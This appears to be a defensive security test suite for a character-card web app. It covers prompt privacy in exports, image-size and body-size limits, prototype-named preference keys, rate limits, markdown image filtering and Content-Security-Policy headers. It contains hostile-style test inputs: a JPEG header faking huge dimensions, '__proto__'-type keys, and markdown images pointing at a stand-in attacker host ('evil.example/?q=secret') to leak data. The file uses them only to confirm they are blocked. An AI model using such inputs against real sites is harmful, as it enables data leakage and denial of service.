import { env } from "cloudflare:workers";
import { encode as encodePng } from "fast-png";
import { renderToString } from "react-dom/server";
import { createElement } from "react";
import { describe, expect, it } from "vitest";
import { Markdown } from "~/components/markdown";
import { clearOfWindowEnd, Client, putJson, signedIn } from "../../support/client";
import { insertUser } from "../../support/fixtures";
import { pngTexts } from "../../support/png";

const SECRET_PROMPT = "secret-image-prompt-7f3a";
const SECRET_NEGATIVE = "secret-negative-prompt-91bc";

/** A JPEG header (SOI, a JFIF segment, SOF0) that claims the given size; nothing after it decodes. */
function jpegClaiming(width: number, height: number) {
  return new Uint8Array([
    0xff,
    0xd8,
    0xff,
    0xe0,
    0x00,
    0x10,
    0x4a,
    0x46,
    0x49,
    0x46,
    0x00,
    0x01,
    0x01,
    0x00,
    0x00,
    0x01,
    0x00,
    0x01,
    0x00,
    0x00,
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 0xff,
    width >> 8,
    width & 0xff,
    0x03,
    0x01,
    0x22,
    0x00,
    0x02,
    0x11,
    0x01,
    0x03,
    0x11,
    0x01,
    0xff,
    0xd9,
  ]);
}

const upload = (client: Client, id: string, bytes: Uint8Array, name: string) => {
  const form = new FormData();
  form.set("file", new File([bytes as Uint8Array<ArrayBuffer>], name));
  return client.fetch(`/api/characters/${id}/thumbnail`, { method: "POST", body: form, headers: { origin: "http://127.0.0.1" } });
};

/** A body sent in chunks with no Content-Length, as `Transfer-Encoding: chunked` arrives. */
function chunked(size: number, fill = 0x20) {
  let sent = 0;
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= size) return controller.close();
      const chunk = new Uint8Array(Math.min(64 * 1024, size - sent)).fill(fill);
      sent += chunk.byteLength;
      controller.enqueue(chunk);
    },
  });
}

describe("card export keeps hidden prompts hidden", () => {
  it("leaves the image and negative prompts out for everyone but the creator and moderators", async () => {
    const owner = await signedIn("prompt-owner@example.com");
    const created = await owner.postJson("/api/characters", {
      name: "Veiled",
      greeting: "Hello.",
      imagePrompt: SECRET_PROMPT,
      negativePrompt: SECRET_NEGATIVE,
      imagePromptVisible: false,
    });
    const { id } = (await created.json()) as { id: string };
    await putJson(owner, `/api/characters/${id}/publish`, { isPublic: true });

    const stranger = await signedIn("prompt-reader@example.com");
    for (const client of [stranger, new Client()]) {
      for (const path of [`/api/characters/${id}/card.json`, `/api/characters/${id}/card.png`, `/api/characters/${id}`]) {
        const response = await client.fetch(path);
        expect(response.status, path).toBe(200);
        const bytes = new Uint8Array(await response.arrayBuffer());
        const decoded = [new TextDecoder("latin1").decode(bytes), ...(response.headers.get("content-type") === "image/png" ? pngTexts(bytes) : [])].join("\n");
        expect(decoded, path).not.toContain(SECRET_PROMPT);
        expect(decoded, path).not.toContain(SECRET_NEGATIVE);
      }
    }
    const own = await (await owner.fetch(`/api/characters/${id}/card.json`)).text();
    expect(own).toContain(SECRET_PROMPT);
    expect(own).toContain(SECRET_NEGATIVE);
  });
});

describe("pictures are limited by size before anything decodes them", () => {
  it("refuses a 7000 x 7000 JPEG at upload, and exports a card over an oversized stored JPEG without decoding it", async () => {
    const client = await signedIn("huge-picture@example.com");
    const { id } = (await (await client.postJson("/api/characters", { name: "Giant", greeting: "Hi." })).json()) as { id: string };
    const refused = await upload(client, id, jpegClaiming(7000, 7000), "giant.jpg");
    expect(refused.status).toBe(400);
    expect(((await refused.json()) as any).error.message).toBe("Thumbnails can be at most 2048 × 2048 pixels; this one is 7000 × 7000.");
    expect((await upload(client, id, encodePng({ width: 2048, height: 1, data: new Uint8Array(2048 * 4), channels: 4 }), "wide.png")).status).toBe(200);

    // A file stored before the limit: the export falls back to the default picture instead of decoding it.
    await env.MEDIA.put("thumbnails/legacy-giant.jpg", jpegClaiming(7000, 7000));
    await env.DB.prepare("UPDATE characters SET thumbnail = 'thumbnails/legacy-giant.jpg' WHERE id = ?").bind(id).run();
    const card = await client.fetch(`/api/characters/${id}/card.png`);
    expect(card.status).toBe(200);
    expect(card.headers.get("content-type")).toBe("image/png");
  });
});

describe("body sizes are counted as the body arrives", () => {
  it("a chunked body without Content-Length is cut off at the limit with a 413", async () => {
    const client = await signedIn("chunked@example.com");
    const send = (path: string, body: ReadableStream, type: string) =>
      client.fetch(path, { method: "POST", body, headers: { "content-type": type, origin: "http://127.0.0.1" }, duplex: "half" } as RequestInit);
    const json = await send("/api/preference", chunked(2 * 1024 * 1024), "application/json");
    expect(json.status).toBe(413);
    expect(((await json.json()) as any).error.message).toBe("This request is too large (at most 1 MB).");
    const log = await send("/_log", chunked(9 * 1024), "application/json");
    expect(log.status).toBe(413);
    const { id } = (await (await client.postJson("/api/characters", { name: "Chunky", greeting: "Hi." })).json()) as { id: string };
    const multipart = await send(`/api/characters/${id}/thumbnail`, chunked(6 * 1024 * 1024), "multipart/form-data; boundary=x");
    expect(multipart.status).toBe(413);
    expect(((await multipart.json()) as any).error.message).toBe("Thumbnails can be at most 5 MB.");
  });
});

describe("small holes", () => {
  it("a preference key that names an object's own machinery is a 400, not a 500", async () => {
    const client = await signedIn("proto@example.com");
    for (const key of ["constructor", "__proto__", "toString", "hasOwnProperty"]) {
      const response = await client.postJson("/api/preference", { key, value: true });
      expect(response.status, key).toBe(400);
      expect(((await response.json()) as any).error.message).toBe(`Unknown preference "${key}".`);
    }
  });

  it("favourites list only characters the viewer may still see", async () => {
    const owner = await signedIn("fav-owner@example.com");
    const { id } = (await (await owner.postJson("/api/characters", { name: "Fleeting Star", greeting: "Hi." })).json()) as { id: string };
    await putJson(owner, `/api/characters/${id}/publish`, { isPublic: true });
    const fan = await signedIn("fav-fan@example.com");
    await fan.postJson(`/api/characters/${id}/favorite`, {});
    expect(await (await fan.fetch("/characters/favorite")).text()).toContain("Fleeting Star");
    await putJson(owner, `/api/characters/${id}/publish`, { isPublic: false });
    expect(await (await fan.fetch("/characters/favorite")).text()).not.toContain("Fleeting Star");
  });

  it("shortening is limited per network: 30 a minute, then 429 with Retry-After", async () => {
    await clearOfWindowEnd();
    const client = new Client();
    const statuses: number[] = [];
    for (let i = 0; i < 31; i++) statuses.push((await client.postJson("/api/shorten", { originalUrl: `/characters?page=${i + 1}` })).status);
    expect(statuses.filter((s) => s === 201).length).toBe(30);
    const limited = await client.postJson("/api/shorten", { originalUrl: "/faq" });
    expect(limited.status).toBe(429);
    expect(limited.headers.get("retry-after")).toBe("60");
  });

  it("creating characters is limited per user: 20 a minute", async () => {
    const client = await signedIn("prolific@example.com");
    await clearOfWindowEnd();
    const statuses = await Promise.all(
      Array.from({ length: 22 }, (_, i) => client.postJson("/api/characters", { name: `Clone ${i}`, greeting: "Hi." }).then((r) => r.status)),
    );
    expect(statuses.filter((s) => s === 201).length).toBe(20);
    expect(statuses.filter((s) => s === 429).length).toBe(2);
  });
});

describe("markdown shows images from this site only", () => {
  it("renders /media images, and any other image address as a plain link", () => {
    const html = renderToString(
      createElement(Markdown, { children: "![ours](/media/thumbnails/a.png) ![spy](https://evil.example/?q=secret) ![](//evil.example/p.gif)" }),
    );
    expect(html).toContain('<img src="/media/thumbnails/a.png" alt="ours"');
    expect(html).not.toMatch(/<img[^>]+evil\.example/);
    expect(html).toContain('href="https://evil.example/?q=secret"');
  });
});

describe("pages send a strict Content-Security-Policy", () => {
  it("with a fresh nonce on every page, matching every script on it", async () => {
    await insertUser({ email: "csp-reader@example.com" });
    const client = new Client();
    const policies = new Set<string>();
    for (const path of ["/", "/faq", "/characters"]) {
      const response = await client.fetch(path);
      const csp = response.headers.get("content-security-policy")!;
      expect(csp).toContain("img-src 'self' data: blob:");
      expect(csp).toContain("connect-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(response.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      const nonce = csp.match(/'nonce-([^']+)'/)![1];
      const html = await response.text();
      for (const [, attrs] of html.matchAll(/<script([^>]*)>/g)) if (!/\ssrc=/.test(attrs)) expect(attrs, path).toContain(`nonce="${nonce}"`);
      policies.add(nonce);
    }
    expect(policies.size).toBe(3);
  });

  it("and every other answer a policy that lets nothing run", async () => {
    for (const path of ["/api/me", "/api/characters?limit=1"]) {
      const response = await new Client().fetch(path, { headers: { accept: "application/json" } });
      expect(response.headers.get("content-security-policy"), path).toContain("default-src 'none'");
      expect(response.headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(response.headers.get("x-frame-options"), path).toBeNull();
    }
  });
});
